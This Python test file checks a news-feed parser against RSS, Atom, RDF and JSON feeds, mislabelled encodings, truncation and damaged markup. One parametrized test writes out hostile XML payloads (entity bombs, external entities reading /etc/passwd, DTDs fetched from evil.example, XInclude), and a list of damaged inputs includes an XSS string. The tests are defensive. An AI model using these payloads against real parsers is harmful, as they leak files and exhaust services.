"""Feeds: whole, damaged, mislabelled, hostile."""

from __future__ import annotations

import json
import random

import pytest

from broadsheet.gather.feed_xml import RawItem
from broadsheet.gather.feeds import FeedDocument, parse_feed

URL = "https://paper.example/feed"
HEAD = '<?xml version="1.0" encoding="utf-8"?>'
ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))


def item(number: int, inner: str = "", title: str = "") -> str:
    """Return an RSS item."""
    title = title or f"Story {number}"
    names = f"<title>{title}</title><link>https://paper.example/{number}</link><guid>g{number}</guid>"
    date = "<pubDate>Sat, 03 Jan 2026 10:15:00 GMT</pubDate>"
    return f"<item>{names}<description>Words of {number}</description>{date}{inner}</item>"


def rss(*items: str, head: str = HEAD) -> str:
    """Return an RSS document."""
    names = 'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
    return f'{head}<rss version="2.0" {names}><channel><title>Paper</title>{"".join(items)}</channel></rss>'


def read(document: str | bytes, **more: object) -> FeedDocument:
    """Return the parsed feed; the child process is not used."""
    body = document.encode() if isinstance(document, str) else document
    return parse_feed(body, url=URL, rescue=None, **more)  # type: ignore[arg-type]


def test_rss_fields_come_out_as_plain_text():
    """REL-01: titles and summaries are text, links absolute, the source element is kept."""
    more = (
        "<dc:creator>Ann Writer</dc:creator><category>World</category><category>World</category>"
        '<source url="https://wire.example/feed">The Wire</source><content:encoded><![CDATA[<p>Full <b>text</b>]]>'
        "</content:encoded>"
    )
    found = read(rss(item(1, more, title="A &amp;lt;b&amp;gt;bold&amp;lt;/b&amp;gt; deal")))
    assert (found.kind, found.title, found.problems, found.readable) == ("rss", "Paper", (), True)
    first = found.items[0]
    assert first.title == "A bold deal"
    assert (first.guid, first.link, first.summary) == ("g1", "https://paper.example/1", "Words of 1")
    assert first.published == "Sat, 03 Jan 2026 10:15:00 GMT"
    assert (first.authors, first.categories) == (("Ann Writer",), ("World",))
    assert (first.source, first.source_url) == ("The Wire", "https://wire.example/feed")
    assert first.content_html == "<p>Full <b>text</b>"


def test_atom_is_read_with_its_base_links_and_markup():
    """REL-01: alternate link before enclosures, xml:base, XHTML content, source title, both dates."""
    document = (
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de-DE" xml:base="https://paper.example/x/">'
        '<title>P</title><link rel="self" href="/feed"/><link href="/"/><entry><id>tag:1</id>'
        '<title type="html">A &lt;i>B&lt;/i></title><link rel="enclosure" href="a.mp3"/>'
        '<link rel="alternate" type="text/html" href="a.html"/><author><name>Ann</name></author>'
        "<published>2026-01-03T10:15:00Z</published><updated>2026-01-03T11:00:00Z</updated>"
        '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Hi <b>you</b></p></div></content>'
        '<source><title>Wire</title></source><category term="t" label="World"/></entry></feed>'
    )
    found = read(document)
    first = found.items[0]
    assert (found.kind, found.language, found.link) == ("atom", "de", "https://paper.example/")
    assert (first.title, first.link, first.guid) == ("A B", "https://paper.example/x/a.html", "tag:1")
    assert (first.published, first.updated) == ("2026-01-03T10:15:00Z", "2026-01-03T11:00:00Z")
    assert (first.summary, first.authors, first.source, first.categories) == ("Hi you", ("Ann",), "Wire", ("World",))
    assert "<b>you</b>" in (first.content_html or "")


def test_rdf_and_json_feed_are_read():
    """REL-01: RSS 1.0 items stand beside the channel; JSON Feed 1.1 in."""
    rdf = (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="x"><title>R</title></channel>'
        '<item rdf:about="https://paper.example/1"><title>T</title><dc:date>2026-01-03</dc:date></item></rdf:RDF>'
    )
    found = read(rdf)
    assert (found.kind, found.title, found.items[0].link) == ("rdf", "R", "https://paper.example/1")
    entry = {
        "id": 7, "url": "/7", "title": "T", "content_html": "<p>x</p>", "date_published": "2026-01-03T10:15:00Z",
        "authors": [{"name": "Ann"}, 3], "tags": ["a", None],
    }  # fmt: skip
    found = read(json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": [entry, 3, None]}))
    first = found.items[0]
    assert (found.kind, len(found.items)) == ("json", 1)
    assert (first.guid, first.link, first.summary, first.authors) == ("7", "https://paper.example/7", "x", ("Ann",))


def test_a_feed_may_say_how_long_it_keeps():
    """REL-03: ttl and the syndication module."""
    assert read(rss("<ttl>30</ttl>", item(1))).minutes == 30
    names = 'xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"'
    period = f"<sy:updatePeriod {names}>daily</sy:updatePeriod><sy:updateFrequency {names}>4</sy:updateFrequency>"
    assert read(rss(period, item(1))).minutes == 360
    assert read(rss("<ttl>never</ttl>", item(1))).minutes is None


@pytest.mark.parametrize(
    ("encoding", "label", "title"),
    [
        ("utf-8", "utf-8", "Zażółć — дом"),
        ("utf-8", "iso-8859-1", "Zażółć — дом"),
        ("utf-8-sig", "windows-1252", "Zażółć — дом"),
        ("utf-16", "utf-8", "Zażółć — дом"),
        ("utf-16-le", "utf-8", "Zażółć — дом"),
        ("utf-16-be", "utf-16", "Zażółć — дом"),
        ("cp1252", "iso-8859-1", "L’été — déjà vu"),
        ("cp1252", "utf-8", "L’été — déjà vu"),
        ("koi8-r", "koi8-r", "Дом у реки"),
        ("windows-1251", "windows-1251", "Дом у реки"),
        ("gb18030", "gb2312", "新闻报道今天的消息非常重要"),
        ("gb18030", "utf-8", "新闻报道今天的消息非常重要，中国的新闻今天非常重要"),
        ("shift_jis", "shift_jis", "今日のニュース"),
        ("iso-2022-jp", "iso-2022-jp", "今日のニュース"),
        ("euc-kr", "euc-kr", "오늘의 뉴스"),
    ],
)
def test_the_encoding_is_found_against_its_labels(encoding: str, label: str, title: str):
    """REL-01: GB18030, KOI8-R, windows-1252 mislabelled, UTF-16 without BOM, BOM and prolog at odds."""
    document = rss(item(1, title=title), item(2), head=f'<?xml version="1.0" encoding="{label}"?>')
    found = read(document.encode(encoding))
    assert [one.title for one in found.items] == [title, "Story 2"]


def test_the_servers_charset_counts_where_the_document_has_none():
    """REL-01: Content-Type charset."""
    document = rss(item(1, title="Дом у реки"), head="").encode("windows-1251")
    assert read(document, charset="windows-1251").items[0].title == "Дом у реки"


def test_stray_windows_bytes_in_utf8_are_mended_one_by_one():
    """REL-01: mixed encodings in one document."""
    document = rss(item(1, title="Żółć ąę ‘so’"), item(2, title="It@s")).encode().replace(b"@", b"\x92")
    found = read(document)
    assert [one.title for one in found.items] == ["Żółć ąę ‘so’", "It’s"]
    assert "encoding_repaired" in found.problems


@pytest.mark.parametrize("size", [10, 40])
def test_a_truncated_feed_gives_every_item_before_the_cut(size: int):
    """REL-01: cut anywhere, all whole items come out and no half one."""
    document = rss(*[item(number) for number in range(size)]).encode()
    for cut in range(0, len(document), 101):
        part = document[:cut]
        found = read(part)
        assert len(found.items) == part.count(b"</item>")


def test_damage_costs_the_damaged_item_only():
    """REL-01: at least 99 % of well-formed items are recovered from 150 files with one wound each."""
    draw = random.Random(3)  # noqa: S311 - a fixed seed, no secret
    wounds = [
        "&nbsp;&foo; AT&T &", "\x00\x07\x1f", "&#0;&#55296;&#1114112;&#xFFFF;", "<b>open", "</b>", "5 < 6", "<br>",
        "<>", "]]>", "<![CDATA[a < b]]>", "<img src=x onerror=alert(1)>", "<p class='a'>x<p>y", "<!-- note -->",
        "\ufffe", "&#x;",
    ]  # fmt: skip
    whole = recovered = 0
    for _ in range(150):
        hurt = draw.randrange(20)
        text = draw.choice(wounds)
        items = [item(n, title=f"Story {n} {text}" if n == hurt else "") for n in range(20)]
        found = read(rss(*items))
        titles = {one.title for one in found.items}
        whole += 19
        recovered += sum(f"Story {n}" in titles for n in range(20) if n != hurt)
    assert recovered >= 0.99 * whole


@pytest.mark.parametrize(
    "document",
    [
        rss(item(1, "<dc:creator>&e9;</dc:creator>"), head=f'<!DOCTYPE rss [<!ENTITY e0 "lol">{ENTITIES}]>'),
        rss(item(1, "<dc:creator>&x;</dc:creator>"), head='<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        rss(item(1), head='<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'),
        rss(item(1), head='<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">'),
        rss(item(1, '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')),
        rss(item(1, "<x " + " ".join(f'a{n}="1"' for n in range(50_000)) + "/>")),
        rss(item(1), item(2, "<a>" * 100_000)),
        rss(item(1, "<author>" + "a.a.a." * 13_500 + "</author>")),
        '<?xml-stylesheet href="file:///etc/passwd" type="text/xsl"?>' + rss(item(1), head=""),
        rss(item(1), head='<!DOCTYPE rss [<!ENTITY a "\\1">]>'),
        rss(item(1, "<dc:creator>&#1114112;&#55296;</dc:creator>")),
    ],
)
def test_hostile_xml_expands_nothing_and_keeps_its_honest_item(document: str):
    """SEC-05: bombs, external entities, XInclude, depth, attributes, the long author, stylesheets."""
    found = read(document)
    assert found.items[0].title == "Story 1"
    assert "root:" not in str(found)
    assert "lol" not in str(found)
    assert len(str(found)) < 10_000


@pytest.mark.parametrize("subset", ['<!ENTITY a "' + "x" * 50_000 + '">', "<!ENTITY never ends"])
def test_a_long_or_endless_internal_subset_is_refused(subset: str):
    """SEC-05: quadratic blow-up."""
    found = read(rss(item(1, "&a;" * 10_000), head=f"<!DOCTYPE rss [{subset}" + ("]>" if '"' in subset else "")))
    assert (found.items, found.readable) == ((), False)


def test_a_huge_feed_is_cut_at_2000_items():
    """REL-11: a clear status, the first items kept."""
    found = read(rss(*[item(number) for number in range(2_500)]))
    assert len(found.items) == 2_000
    assert found.items[0].title == "Story 0"
    assert "items_cut_at_2000" in found.problems


def test_one_swollen_item_does_not_swell_the_record():
    """REL-11: title 500 characters, summary 20 KB."""
    found = read(rss(item(1, "<description>" + "<b>word</b> " * 60_000 + "</description>", title="t " * 9_000)))
    assert len(found.items[0].title) <= 500
    assert len(found.items[0].summary) <= 20_000


@pytest.mark.parametrize(
    "document",
    [
        b"<!doctype html><html><head><title>Parked</title></head><body><p>Buy this domain</p></body></html>",
        b"", b"\0\0\0", b"hello", b"{}", b"[1]", b'{"items": 3}', b"{" * 5_000, b"\xff\xfe\xff", b"<", b"<?xml",
        b"<rss",
        b'<opml version="2.0"><body/></opml>', b"<html><body><item>x</item></body></html>", b"GIF89a" + bytes(500),
    ],
)  # fmt: skip
def test_what_is_no_feed_yields_no_items(document: bytes):
    """REL-08: a parked domain or an error page never yields items."""
    found = read(document)
    assert found.items == ()


def test_markup_that_was_not_escaped_is_still_read():
    """REL-01: a description with bare, unclosed HTML swallows no other item."""
    fields = "<title>A <b>bold</title><link>https://paper.example/9</link>"
    bare = f"<item>{fields}<description><p>Hi<br>you <img src=x></description></item>"
    found = read(rss(bare, item(2)))
    assert [one.title for one in found.items] == ["A bold", "Story 2"]
    assert found.items[0].summary == "Hi\nyou"


def test_the_tolerant_parser_is_asked_last_and_may_fail():
    """REL-01: only when nothing else found items; its failure is no crash."""
    broken = "<item><title>Left alone</title></item>"
    rescued = parse_feed(broken.encode(), url=URL, rescue=lambda _: [RawItem(title="Left alone", link="/1")])
    assert (rescued.items[0].title, rescued.items[0].link) == ("Left alone", "https://paper.example/1")
    assert "rescued" in rescued.problems
    assert parse_feed(broken.encode(), url=URL, rescue=lambda _: None).items == ()
    asked: list[bytes] = []
    parse_feed(rss(item(1)).encode(), url=URL, rescue=asked.append)  # type: ignore[arg-type,func-returns-value]
    assert asked == []


def test_guids_that_are_addresses_stand_in_for_missing_links():
    """REL-09: a permalink guid is the link unless it says it is not."""
    assert read(rss("<item><title>x</title><guid>https://paper.example/p</guid></item>")).items[0].link
    no = '<item><title>x</title><guid isPermaLink="false">https://paper.example/p</guid></item>'
    assert read(rss(no)).items[0].link is None
